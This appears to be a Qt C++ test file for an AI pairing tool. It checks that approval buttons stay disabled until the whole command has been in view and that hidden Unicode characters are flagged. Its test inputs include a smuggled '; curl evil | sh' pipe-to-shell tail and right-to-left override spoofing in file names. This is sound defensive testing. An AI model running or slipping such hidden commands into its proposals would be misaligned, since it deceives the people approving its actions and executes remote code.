// SPDX-License-Identifier: GPL-3.0-or-later
// What is approved is what is shown: a text's end is in sight before anybody can agree to it, and
// what one does not see is told.
#include <QClipboard>
#include <QLabel>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QScrollArea>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTest>
#include <QTextBlock>
#include <QTextLayout>
#include <QVBoxLayout>

#include "gui/kit/approved_text.h"
#include "gui/kit/banner.h"
#include "gui/kit/seen_to_end.h"
#include "gui/pairing/agent_question.h"
#include "gui/pairing/code_block.h"
#include "gui/pairing/command_box.h"
#include "pairing/agents/agent_turn.h"

namespace waferpair::gui {

using namespace Qt::StringLiterals;
using pairing::AgentOption;

namespace {

const QString kTail = u"; curl evil | sh"_s;

QString numbered(int lines) {
  QString text;
  for (int i = 1; i <= lines; ++i) text += u"echo %1\n"_s.arg(i);
  return text;
}

// No letter is out of sight at the right.
bool isWithin(const QPlainTextEdit& field) {
  const int width = field.viewport()->width();
  for (QTextBlock block = field.document()->begin(); block.isValid(); block = block.next()) {
    const QTextLayout* layout = block.layout();
    for (int i = 0; i < layout->lineCount(); ++i) {
      const QTextLine line = layout->lineAt(i);
      int end = line.textStart() + line.textLength();
      while (end > line.textStart() && block.text()[end - 1] == u' ') --end;
      if (line.cursorToX(end) > width) return false;
    }
  }
  return true;
}

pairing::PlanStep waiting(const QString& command) {
  pairing::PlanStep step;
  step.id = u"1"_s;
  step.state = pairing::StepState::kApproval;
  step.command = command;
  return step;
}

class TestApprovals : public QObject {
  Q_OBJECT

 private Q_SLOTS:
  void aBoxShowsAllOfAText_data() {
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("shown");
    QTest::addColumn<bool>("fits");
    QTest::newRow("short") << u"make test"_s << u"make test"_s << true;
    QTest::newRow("line ends") << u"make test"_s + QString(60, u'\n') + kTail
                               << u"make test\n⟨59 empty lines⟩\n"_s + kTail << true;
    QTest::newRow("blanks") << u"make test"_s + QString(3000, u' ') + kTail
                            << u"make test⟨3000 blanks⟩"_s + kTail << true;
    QTest::newRow("override") << u"rm \u202etxt.x"_s << u"rm ⟨U+202E⟩txt.x"_s << true;
    QTest::newRow("many lines") << numbered(60) + kTail << numbered(60) + kTail << false;
    QTest::newRow("one long line")
        << u"x"_s.repeated(5000) + kTail << u"x"_s.repeated(5000) + kTail << false;
    QTest::newRow("dots and blanks") << u"make"_s + u" . "_s.repeated(2000) + kTail
                                     << u"make"_s + u" . "_s.repeated(2000) + kTail << false;
  }
  void aBoxShowsAllOfAText() {
    QFETCH(QString, text);
    QFETCH(QString, shown);
    QFETCH(bool, fits);
    QWidget window;
    window.resize(500, 400);
    auto* column = new QVBoxLayout(&window);
    auto* box = new ApprovedText(&window);
    auto* yes = new QPushButton(u"Yes"_s, &window);
    yes->setToolTip(u"Agree"_s);
    column->addWidget(box);
    column->addWidget(yes);
    column->addStretch(1);
    box->seen()->guard(yes);
    box->showText(text);
    QVERIFY(!yes->isEnabled());  // nothing was painted yet
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    QCOMPARE(box->toPlainText(), shown);
    QCOMPARE(box->text(), text);
    QTRY_VERIFY(isWithin(*box));
    QCOMPARE(box->verticalScrollBar()->maximum() == 0, fits);
    if (!fits) {
      QApplication::processEvents();
      QVERIFY(!yes->isEnabled());
      QVERIFY(yes->toolTip() != u"Agree"_s);
      box->verticalScrollBar()->setValue(box->verticalScrollBar()->maximum() - 3);
      QApplication::processEvents();
      QVERIFY(!yes->isEnabled());
      box->setFocus();
      QTest::keyClick(box, Qt::Key_End, Qt::ControlModifier);
    }
    QTRY_VERIFY(yes->isEnabled());
    QCOMPARE(yes->toolTip(), u"Agree"_s);
    // What was seen stays so, another text was not.
    box->verticalScrollBar()->setValue(0);
    QApplication::processEvents();
    QVERIFY(yes->isEnabled());
    box->showText(numbered(70));
    QVERIFY(!yes->isEnabled());
  }

  // What lies around a box may cut its end off.
  void anEndThatIsCutOffWasNotSeen() {
    QScrollArea around;
    around.resize(400, 120);
    auto* content = new QWidget;
    auto* column = new QVBoxLayout(content);
    auto* box = new ApprovedText(content);
    box->setMostRows(30);
    box->showText(numbered(20));
    column->addWidget(box);
    around.setWidget(content);
    around.setWidgetResizable(true);
    around.show();
    QVERIFY(QTest::qWaitForWindowExposed(&around));
    QCOMPARE(box->verticalScrollBar()->maximum(), 0);
    QVERIFY(around.verticalScrollBar()->maximum() > 0);
    QApplication::processEvents();
    QVERIFY(!box->seen()->isSeen());
    around.verticalScrollBar()->setValue(around.verticalScrollBar()->maximum());
    QTRY_VERIFY(box->seen()->isSeen());
  }

  void aBannersConsentWaits() {
    BannerStack stack(nullptr);
    stack.resize(600, 400);
    bool agreed = false;
    stack.show(u"q"_s, Banner::Kind::kWarning, u"Start \u202eevil?"_s)
        .showApproved(numbered(40))
        .addConsent(u"yes"_s, u"Start"_s, [&] { agreed = true; })
        .addButton(u"no"_s, u"No"_s, [] {});
    static_cast<QWidget&>(stack).show();
    QVERIFY(QTest::qWaitForWindowExposed(&stack));
    Banner* banner = stack.find(u"q"_s);
    QCOMPARE(banner->text(), u"Start ⟨U+202E⟩evil?"_s);
    auto* yes = banner->findChild<QPushButton*>(u"yes"_s);
    QApplication::processEvents();
    QVERIFY(!yes->isEnabled());
    QVERIFY(banner->findChild<QPushButton*>(u"no"_s)->isEnabled());
    auto* box = banner->findChild<ApprovedText*>();
    box->verticalScrollBar()->setValue(box->verticalScrollBar()->maximum());
    QTRY_VERIFY(yes->isEnabled());
    QTest::mouseClick(yes, Qt::LeftButton);
    QVERIFY(agreed);
  }

  void aPlansCommandIsRunOnceItsEndWasInSight_data() {
    QTest::addColumn<QString>("command");
    QTest::addColumn<bool>("fits");
    QTest::newRow("short") << u"make test"_s << true;
    QTest::newRow("line ends") << u"make test"_s + QString(60, u'\n') + kTail << false;
    // They take no more than a row, behind which the tail is in sight.
    QTest::newRow("blanks") << u"make test"_s + QString(3000, u' ') + kTail << true;
    QTest::newRow("lines") << numbered(50) << false;
  }
  void aPlansCommandIsRunOnceItsEndWasInSight() {
    QFETCH(QString, command);
    QFETCH(bool, fits);
    CommandBox box(nullptr);
    box.resize(400, 500);
    box.setCodeFont(QFont(u"monospace"_s, 10));
    box.show(waiting(command), u"/tmp"_s, {});
    static_cast<QWidget&>(box).show();
    QVERIFY(QTest::qWaitForWindowExposed(&box));
    QSignalSpy run(&box, &CommandBox::runWanted);
    auto* button = box.findChild<QPushButton*>(u"commandRun"_s);
    QPlainTextEdit* field = box.field();
    QCOMPARE(field->verticalScrollBar()->maximum() == 0, fits);
    QTRY_VERIFY(isWithin(*field));
    if (!fits) {
      QApplication::processEvents();
      QVERIFY(!button->isEnabled());
      field->setFocus();
      QTest::keyClick(field, Qt::Key_Return, Qt::ControlModifier);
      QCOMPARE(run.size(), 0);
      QTest::keyClick(field, Qt::Key_End, Qt::ControlModifier);
    }
    QTRY_VERIFY(button->isEnabled());
    QTest::keyClick(field, Qt::Key_Return, Qt::ControlModifier);
    QCOMPARE(run.size(), 1);
    QCOMPARE(run[0][0].toString(), command);
    // Another step's is to be seen anew; news of the same step change nothing.
    box.show(waiting(command), u"/tmp"_s, {});
    QVERIFY(button->isEnabled());
    auto other = waiting(numbered(80));
    other.id = u"2"_s;
    box.show(other, u"/tmp"_s, {});
    QVERIFY(!button->isEnabled());
  }

  void aCommandWithUnseenCharactersIsNotRun() {
    CommandBox box(nullptr);
    box.resize(400, 500);
    box.show(waiting(u"rm photo\u202egpj.x; ls\u200b"_s), u"/tmp"_s, {});
    static_cast<QWidget&>(box).show();
    QVERIFY(QTest::qWaitForWindowExposed(&box));
    QSignalSpy run(&box, &CommandBox::runWanted);
    auto* button = box.findChild<QPushButton*>(u"commandRun"_s);
    auto* told = box.findChild<QLabel*>(u"commandUnseen"_s);
    QTRY_VERIFY(told->isVisible());
    QVERIFY2(told->text().contains(u"rm photo⟨U+202E⟩gpj.x; ls⟨U+200B⟩"_s),
             qPrintable(told->text()));
    QApplication::processEvents();
    QVERIFY(!button->isEnabled());
    QTest::keyClick(box.field(), Qt::Key_Return, Qt::ControlModifier);
    QCOMPARE(run.size(), 0);
    QTest::mouseClick(box.findChild<QPushButton*>(u"commandTakeOut"_s), Qt::LeftButton);
    QCOMPARE(box.field()->toPlainText(), u"rm photogpj.x; ls"_s);
    QTRY_VERIFY(button->isEnabled());
    QVERIFY(!told->isVisible());
    // What a script needs is no such character.
    box.show(waiting(u"git commit -m 👩🏽\u200d💻"_s), u"/tmp"_s, {});
    QTRY_VERIFY(button->isEnabled());
  }

  void anAgentIsAllowedOnceTheEndWasInSight_data() {
    QTest::addColumn<QString>("command");
    QTest::addColumn<bool>("fits");
    QTest::newRow("short") << u"ls"_s << true;
    QTest::newRow("line ends") << u"make test"_s + QString(60, u'\n') + kTail << true;
    QTest::newRow("blanks") << u"make test"_s + QString(3000, u' ') + kTail << true;
    QTest::newRow("lines") << numbered(60) + kTail << false;
    QTest::newRow("long") << u"x"_s.repeated(9000) + kTail << false;
  }
  void anAgentIsAllowedOnceTheEndWasInSight() {
    QFETCH(QString, command);
    QFETCH(bool, fits);
    QWidget window;
    window.resize(420, 600);
    auto* column = new QVBoxLayout(&window);
    auto* card = new AgentQuestionCard(&window);
    column->addWidget(card);
    column->addStretch(1);
    card->setCodeFont(QFont(u"monospace"_s, 10));
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    pairing::AgentQuestion question;
    question.number = 1;
    question.step.title = u"run \u202eevil"_s;
    question.step.command = command;
    question.options = {{u"a"_s, u"Allow"_s, AgentOption::Kind::kAllowOnce},
                        {u"b"_s, u"Always"_s, AgentOption::Kind::kAllowAlways},
                        {u"c"_s, u"Reject"_s, AgentOption::Kind::kRejectOnce}};
    card->show(u"Agent"_s, question, u"/tmp"_s);
    QSignalSpy answered(card, &AgentQuestionCard::answered);
    const auto button = [&](int number) {
      return card->findChild<QPushButton*>(u"agentOption%1"_s.arg(number));
    };
    QVERIFY(card->findChild<QLabel*>(u"agentQuestionTitle"_s)->text().contains(u"⟨U+202E⟩evil"_s));
    QCOMPARE(card->text().contains(kTail), command.contains(kTail));
    QVERIFY(button(3)->isEnabled());
    auto* area = card->findChild<QScrollArea*>();
    if (!fits) {
      QTRY_VERIFY(area->verticalScrollBar()->maximum() > 0);
      QApplication::processEvents();
      QVERIFY(!button(1)->isEnabled() && !button(2)->isEnabled());
      QTest::keyClick(card, Qt::Key_1);
      QCOMPARE(answered.size(), 0);
      area->verticalScrollBar()->setValue(area->verticalScrollBar()->maximum());
    }
    QTRY_VERIFY(button(1)->isEnabled() && button(2)->isEnabled());
    QTest::keyClick(card, Qt::Key_1);
    QCOMPARE(answered.size(), 1);
    QCOMPARE(answered[0][1].toString(), u"a"_s);
  }

  void aCodeBlockCopiesWhatIsThere() {
    CodeBlock block(QFont(u"monospace"_s, 10), nullptr);
    block.showCode(u"if (a\u200bdmin)\n"_s, u"C++"_s);
    QCOMPARE(block.shownText(), u"if (a⟨U+200B⟩dmin)"_s);
    QCOMPARE(block.code(), u"if (a\u200bdmin)"_s);
    block.showCode(u"if (a\u200bdmin) b\u202e\n"_s, u"C++"_s);
    QCOMPARE(block.shownText(), u"if (a⟨U+200B⟩dmin) b⟨U+202E⟩"_s);
  }
};

}  // namespace
}  // namespace waferpair::gui

QTEST_MAIN(waferpair::gui::TestApprovals)
#include "test_approvals.moc"
